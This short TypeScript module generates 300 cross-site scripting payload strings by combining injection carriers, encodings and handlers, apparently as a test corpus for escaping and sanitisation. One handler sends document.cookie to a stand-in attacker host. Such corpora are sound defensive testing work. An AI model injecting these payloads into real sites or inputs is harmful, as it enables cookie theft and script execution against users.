const handlers = ['alert(1)', 'window.__hurt=1', 'fetch(`//evil.example/${document.cookie}`)'];
const carriers = [
  (code: string) => `<script>${code}</script>`,
  (code: string) => `<img src=x onerror="${code}">`,
  (code: string) => `<svg onload="${code}">`,
  (code: string) => `"><svg/onload=${code}>`,
  (code: string) => `'><img src=x onerror=${code}>`,
  (code: string) => `<iframe srcdoc="<script>${code}</script>">`,
  (code: string) => `<a href="javascript:${code}">点我</a>`,
  (code: string) => `[点我](javascript:${code})`,
  (code: string) => `![图](x" onerror="${code})`,
  (code: string) => `<body onpageshow="${code}">`,
  (code: string) => `<details open ontoggle="${code}">`,
  (code: string) => `<input autofocus onfocus="${code}">`,
  (code: string) => `<math><mtext></p><img src onerror="${code}">`,
  (code: string) => `<style>@import 'javascript:${code}'</style>`,
  (code: string) => `</textarea><script>${code}</script>`,
  (code: string) => `{{constructor.constructor('${code}')()}}`,
  (code: string) => '${' + code + '}',
  (code: string) => `data:text/html,<script>${code}</script>`,
  (code: string) => `<form action="javascript:${code}"><button>提交`,
  (code: string) => `<object data="javascript:${code}">`,
  (code: string) => `<video><source onerror="${code}">`,
  (code: string) => `<marquee onstart="${code}">`,
  (code: string) => `&lt;script&gt;${code}&lt;/script&gt;`,
  (code: string) => `\u202E<script>${code}</script>`,
  (code: string) => `<ScRiPt>${code}</sCrIpT>`,
];
const disguises = [
  (text: string) => text,
  (text: string) => text.replaceAll('<', '＜<'),
  (text: string) => `${text}\u2028`,
  (text: string) => encodeURIComponent(text).slice(0, 200),
];

/** Three hundred texts that would run as a script wherever a page forgets to treat them as text. */
export const hostileTexts: readonly string[] = disguises.flatMap((disguise) =>
  carriers.flatMap((carry) => handlers.map((code) => disguise(carry(code)))),
);
